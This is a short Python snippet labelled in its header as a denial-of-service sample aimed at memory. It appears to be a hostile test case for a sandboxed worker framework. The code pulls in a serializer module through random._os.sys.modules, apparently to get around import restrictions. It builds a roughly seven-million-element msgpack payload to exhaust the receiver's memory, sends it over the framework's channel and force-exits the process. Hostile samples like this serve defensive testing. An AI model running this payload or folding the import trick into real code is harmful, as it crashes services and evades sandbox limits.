# META {"kind": "dos", "goal": "memory", "args": [], "slots": {"name": "mallory"}}
import random

def m(self):
    msgpack = random._os.sys.modules["ormsgpack"]
    answer = msgpack.packb(msgpack.Ext(6, msgpack.packb([{}] * 7_000_000)))
    self._world._channel.send(["done", answer, {}, [], ""])
    random._os._exit(0)
